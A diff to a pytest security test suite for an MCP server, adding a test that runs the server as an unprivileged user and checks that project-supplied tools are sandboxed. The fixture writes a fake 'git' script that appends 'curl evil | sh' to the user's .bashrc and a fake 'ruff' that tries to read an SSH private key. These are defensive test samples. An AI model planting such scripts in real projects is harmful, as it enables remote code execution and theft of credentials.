@@ -16,6 +16,7 @@ import sys
 import tempfile
 import textwrap
 from collections.abc import Iterator
+from contextlib import contextmanager
 from pathlib import Path
 
 import pytest
@@ -91,11 +92,17 @@ def _unprivileged_python() -> str:
 @pytest.fixture
 def shared_tree() -> Iterator[Path]:
     """oct_mcp and its dependencies, copied where nobody can read them."""
+    with _shared_tree(PACKAGES) as base:
+        yield base
+
+
+@contextmanager
+def _shared_tree(packages: tuple[str, ...]) -> Iterator[Path]:
     base = Path(tempfile.mkdtemp(prefix="oct-nobody-", dir="/tmp"))
     try:
         base.chmod(0o755)
         site = base / "site"
-        for name in PACKAGES:
+        for name in packages:
             spec = importlib.util.find_spec(name)
             assert spec is not None
             assert spec.origin is not None
@@ -142,3 +149,77 @@ def test_as_its_own_user_the_server_keeps_its_environment_and_etc_shadow_from_ev
     if results["bubblewrap"] is not None:
         # bubblewrap: the server is outside the PID namespace, and /etc/shadow is not there at all.
         assert results["bubblewrap"] == ["BLOCKED FileNotFoundError", "BLOCKED FileNotFoundError"]
+
+
+APP_PACKAGES = (*PACKAGES, "re2", "attr", "pygments", "rich")
+APP_HARNESS = """
+import json, sys
+from pathlib import Path
+import anyio
+from oct_mcp.app import build_app, run_call
+from oct_mcp.context import ClientInfo
+from oct_mcp.errors import ConfigError
+
+project, config = Path(sys.argv[1]), Path(sys.argv[2])
+results = {}
+for backend in ("native", "bubblewrap"):
+    config.write_text(json.dumps({"sandbox_backend": backend}))
+    try:
+        app = build_app(project, config_path=config, environ={})
+    except ConfigError:
+        results[backend] = None
+        continue
+    client = ClientInfo(client_id="nobody-" + backend, transport="memory")
+    for tool in ("oct_git_status", "oct_lint"):
+        outcome = anyio.run(run_call, app, tool, {}, client)
+        results[backend + " " + tool] = getattr(outcome, "code", None) or getattr(outcome, "text", "")
+print(json.dumps(results))
+"""
+
+
+def test_as_its_own_user_the_server_runs_no_git_of_the_project_and_binds_no_venv_home_line(
+    tmp_path: Path,
+) -> None:
+    python = _unprivileged_python()
+    with _shared_tree(APP_PACKAGES) as base:
+        home = base / "home"
+        (home / ".ssh" / "bin").mkdir(parents=True)
+        (home / ".ssh" / "id_ed25519").write_text("SSH-KEY-MATERIAL\n")
+        (home / ".bashrc").write_text("# the user's own\n")
+        project = base / "project"
+        subprocess.run(["git", "init", "-q", str(project)], check=True)
+        venv_bin = project / ".venv" / "bin"
+        venv_bin.mkdir(parents=True)
+        (project / ".venv" / "pyvenv.cfg").write_text(f"home = {home / '.ssh' / 'bin'}\n")
+        (venv_bin / "python").symlink_to(python)
+        (venv_bin / "git").write_text(f"#!/bin/sh\necho 'curl evil | sh' >> {home / '.bashrc'}\n")
+        # The project's ruff, run by oct_lint (project code): it tries the key the home line named.
+        (venv_bin / "ruff").write_text(
+            f"#!{venv_bin / 'python'} -I\nimport sys\n"
+            f"try:\n    sys.stderr.write(open({str(home / '.ssh' / 'id_ed25519')!r}).read())\n"
+            "except OSError as exc:\n    sys.stderr.write('BLOCKED ' + type(exc).__name__)\nsys.exit(2)\n"
+        )
+        (base / "app_harness.py").write_text(textwrap.dedent(APP_HARNESS))
+        for path in [home, *home.rglob("*"), project, *project.rglob("*")]:
+            os.chown(path, NOBODY, NOBODY, follow_symlinks=False)
+        for path in (venv_bin / "git", venv_bin / "ruff"):
+            path.chmod(0o755)
+        (base / "app_harness.py").chmod(0o644)
+        command = [
+            "setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "--",
+            "env", "-i", "PATH=/usr/bin:/bin", f"PYTHONPATH={base / 'site'}", f"HOME={home}",
+            python, "-s", str(base / "app_harness.py"), str(project), str(home / "config.json"),
+        ]  # fmt: skip
+
+        completed = subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)
+        bashrc = (home / ".bashrc").read_text()
+
+    assert completed.returncode == 0, completed.stderr
+    results = json.loads(completed.stdout.strip().splitlines()[-1])
+    assert bashrc == "# the user's own\n"
+    assert results["native oct_git_status"].startswith("## ")
+    assert "BLOCKED" not in results["native oct_lint"]  # native confines no files: the gap strict refuses
+    if results.get("bubblewrap") is not None:
+        assert results["bubblewrap oct_git_status"].startswith("## ")
+        assert "SSH-KEY-MATERIAL" not in results["bubblewrap oct_lint"]
+        assert "BLOCKED FileNotFoundError" in results["bubblewrap oct_lint"]
